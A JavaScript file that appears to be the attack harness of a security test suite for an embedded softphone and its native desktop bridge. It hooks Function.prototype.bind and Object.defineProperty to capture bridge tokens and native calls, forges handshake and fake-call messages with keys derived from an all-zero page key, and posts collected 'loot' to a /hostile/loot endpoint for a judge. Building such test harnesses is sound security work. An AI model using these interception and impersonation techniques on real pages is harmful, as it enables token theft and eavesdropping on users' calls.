// What the attacks are made of. It runs in the org's page before the page's own scripts, with all that the page may
// do, and in pages of another origin. ORG, EVIL and SOFTPHONE are filled in by the server.
(() => {
  const { stringify, parse } = JSON;
  const { apply, defineProperty } = Reflect;
  const listen = window.addEventListener.bind(window);
  const Later = Promise;
  const later = window.setTimeout.bind(window);
  const host = window.chrome?.webview ?? window.webkit?.messageHandlers?.external;
  const hostPost = host?.postMessage;
  const toHost = hostPost ? hostPost.bind(host) : () => {};
  const random = crypto.getRandomValues.bind(crypto);
  const subtle = crypto.subtle;
  const { includes } = Array.prototype;
  const { slice } = String.prototype;
  const phases = {};
  const loot = [];
  const softphone = 'SOFTPHONE';
  const softphoneOrigin = softphone.slice(0, softphone.indexOf('/', softphone.indexOf('://') + 3));

  const utf8 = (text) => new TextEncoder().encode(text);
  const joined = (a, b) => {
    const both = new Uint8Array(a.length + b.length);
    both.set(a);
    both.set(b, a.length);
    return both;
  };
  const b64 = (bytes) => {
    let text = '';
    for (const byte of bytes) text += String.fromCharCode(byte);
    return btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
  };
  const unb64 = (text) => Uint8Array.from(atob(text.replaceAll('-', '+').replaceAll('_', '/')), (c) => c.charCodeAt(0));
  const counted = (counter) => {
    const bytes = new Uint8Array(8);
    new DataView(bytes.buffer).setBigUint64(0, BigInt(counter));
    return bytes;
  };

  const counterOf = (text) => Number(new DataView(unb64(text.slice(0, 11)).buffer).getBigUint64(0));

  const hostile = {
    lastDown: 1,
    org: 'ORG',
    evil: 'EVIL',
    softphone,
    softphoneOrigin,
    loot,
    errors: [],
    b64,
    stringify,
    parse,
    later,
    pause: (ms) => new Later((done) => later(done, ms)),

    /** Keeps what was seen; the judge looks through it for secrets. */
    keep(what) {
      const text = typeof what === 'string' ? what : (stringify(what) ?? '');
      if (text.length < 8 || loot.length > 5000 || apply(includes, loot, [text])) return;
      loot[loot.length] = text.length > 20000 ? apply(slice, text, [0, 20000]) : text;
    },
    /** Runs fn when the agent has got so far. */
    on(phase, fn) {
      phases[phase] = [...(phases[phase] ?? []), fn];
    },
    async act(phase) {
      for (const fn of phases[phase] ?? []) {
        try {
          await fn();
        } catch (error) {
          hostile.errors.push(`${phase}: ${error?.message ?? error}`);
        }
      }
    },

    /** The address of a softphone as the org frames it. */
    address: () =>
      `${softphone}?mode=Lightning&isdtp=vw&sfdcIframeOrigin=${encodeURIComponent('ORG').replaceAll('%3A', ':')}&nonce=${'0'.repeat(64)}&ltn_app_id=06m&clc=0`,
    element: () => [...document.querySelectorAll('iframe')].find((frame) => frame.src.startsWith(softphone)),
    phone: () => hostile.element()?.contentWindow,
    /** Puts a frame into the page. */
    frame(src, more = {}) {
      const frame = document.createElement('iframe');
      for (const name in more) frame.setAttribute(name, more[name]);
      if (src !== null) frame.src = src;
      (document.body ?? document.documentElement).append(frame);
      return frame;
    },
    /** The address of a page of the other origin that runs a script. */
    at: (origin, script) => `${origin}/hostile/run.html#${encodeURIComponent(script)}`,
    /** The document's text with nothing but a softphone in it. */
    page: () => `<!doctype html><body><iframe src="${hostile.address().replaceAll('&', '&amp;')}" width=420 height=640></iframe>`,
    rewrite(document = window.document) {
      document.open();
      document.write(hostile.page());
      document.close();
    },
    /** Hears the messages of the window; fn may answer 'hold'. */
    hear(fn) {
      listen(
        'message',
        (event) => {
          if (fn(event) === 'hold') event.stopImmediatePropagation();
        },
        true,
      );
    },
    fromPhone: (event) => typeof event.data === 'object' && event.data !== null && (event.data.cordboard === 'hello' || event.data.cordboard === 'call'),

    /** What a sealed message would be if nothing were encrypted. */
    unsealed: (counter, value) => b64(joined(counted(counter), utf8(stringify(value)))),
    /** The keys of a conversation, for whoever knows the page's key; that is all zero where nobody guards it. */
    async keys(session, softphoneNonce, programNonce, pageKey = new Uint8Array(32)) {
      const base = await subtle.importKey('raw', pageKey, 'HKDF', false, ['deriveKey']);
      const salt = joined(unb64(softphoneNonce), unb64(programNonce));
      const derive = (direction) =>
        subtle.deriveKey({ name: 'HKDF', hash: 'SHA-256', salt, info: utf8(direction) }, base, { name: 'AES-GCM', length: 256 }, false, ['encrypt', 'decrypt']);
      const up = await derive('softphone to program');
      const down = await derive('program to softphone');
      const parameters = (counter, kind, answers) => ({
        name: 'AES-GCM',
        iv: joined(new Uint8Array(4), counter),
        additionalData: utf8(`${kind}\0${session}\0${answers}`),
      });
      const seal = (key) => async (kind, answers, counter, value) => {
        const bytes = counted(counter);
        const box = await subtle.encrypt(parameters(bytes, kind, answers), key, utf8(stringify(value)));
        return b64(joined(bytes, new Uint8Array(box)));
      };
      const open = (key) => async (kind, answers, sealed) => {
        const raw = unb64(sealed);
        const plain = await subtle.decrypt(parameters(raw.slice(0, 8), kind, answers), key, raw.slice(8));
        return new TextDecoder().decode(plain);
      };
      return { sealUp: seal(up), sealDown: seal(down), openUp: open(up), openDown: open(down) };
    },
    random: () => b64(random(new Uint8Array(16))),
    /** A State with a call that there is not. */
    state: (more = {}) => ({
      rev: 1e15, link: 'up', agent: 'on', server: 'Mallory', user: 'Mallory', device: '200', calls: [{
        id: 'mallory', state: 'ringing', direction: 'inbound', party: { number: '6660', name: 'Mallory', display: 'Mallory' },
        startedAt: 1, can: ['answer', 'hangUp'],
      }], ...more,
    }),
    /** Answers the softphone in the program's place: what it says is kept, what is shown to it is forged. */
    async impersonate(event, pageKey) {
      const { data, source } = event;
      if (data.cordboard === 'hello') {
        if (hostile.talk?.hello === data.nonce) return;
        const talk = { hello: data.nonce, session: hostile.random(), nonce: hostile.random(), sent: 1 };
        hostile.talk = talk;
        talk.keys = await hostile.keys(talk.session, data.nonce, talk.nonce, pageKey);
        const say = (message) => source.postMessage({ session: talk.session, ...message }, event.origin);
        say({ cordboard: 'welcome', hello: data.nonce, nonce: talk.nonce, sealed: await talk.keys.sealDown('welcome', '', 1, wrap({ early: true, version: '1' })) });
        const state = hostile.state({ agent: 'off', link: 'down', calls: [], servers: [{ name: 'Main', keep: true, login: true }] });
        say({ cordboard: 'state', sealed: await talk.keys.sealDown('state', '', ++talk.sent, wrap(state)) });
      } else if (hostile.talk !== undefined) {
        hostile.keep(await hostile.talk.keys.openUp('call', '', data.sealed));
      }
    },

    /** A native call that shows whatever token there is. Its answer comes only where the page hears the answers. */
    token: '',
    asked: {},
    count: 0,
    ask(method, ...args) {
      const id = `hostile-${++hostile.count}`;
      return new Later((done) => {
        hostile.asked[id] = done;
        later(() => done(null), 3000);
        toHost(`C${stringify({ name: `softphone.Bridge.${method}`, args: [hostile.token, ...args], callbackID: id })}`);
      });
    },
    toHost,
    say: (message, origin = softphoneOrigin) => hostile.phone()?.postMessage(message, origin),

    /**
     * Sits between a bridge that is not there yet and the host: sees native calls (the token with them) and their
     * answers. onNative and onAnswer may change the text, or answer null to hold it back.
     */
    natives: [],
    answers: [],
    onNative: (text) => text,
    onAnswer: (text) => text,
    between() {
      const bind = Function.prototype.bind;
      const spied = (text) => {
        hostile.natives.push(text);
        try {
          const call = parse(text.slice(1));
          if (call.callbackID.startsWith('softphone.Bridge.')) hostile.token = call.args[0];
        } catch {}
        const on = hostile.onNative(text);
        if (on !== null) toHost(on);
      };
      Function.prototype.bind = function (...all) {
        if (this === hostPost) return spied;
        return apply(bind, this, all);
      };
      Object.defineProperty = (target, name, description) => {
        if (target === window && name === 'wails') {
          const real = description.value;
          const Callback = (text) => {
            const { result } = parse(text);
            const sealed = typeof result === 'string' ? result : result?.sealed;
            if (typeof sealed === 'string' && sealed.length > 20) hostile.lastDown = counterOf(sealed);
            const done = hostile.asked[parse(text).callbackid];
            if (done) return done(parse(text));
            hostile.answers.push(text);
            const on = hostile.onAnswer(text);
            if (on !== null) real.Callback(on);
          };
          hostile.wails = real;
          description = { ...description, value: { ...real, Callback } };
        }
        if (!defineProperty(target, name, description)) throw new TypeError('not defined');
        return target;
      };
    },
    /** Sends what was found to whoever judges, from a page that cannot be asked. */
    tell: (what) => fetch(`${location.origin}/hostile/loot`, { method: 'POST', body: typeof what === 'string' ? what : stringify(what) }),
  };
  /** What the program seals, around a value. */
  const wrap = (value) => value;
  hostile.wrap = wrap;
  /** What a call shows beside its method, to be a new one. */
  hostile.fresh = (_keys, sealed) => ({ heard: sealed ? counterOf(sealed) : hostile.lastDown });
  window.hostile = hostile;
})();
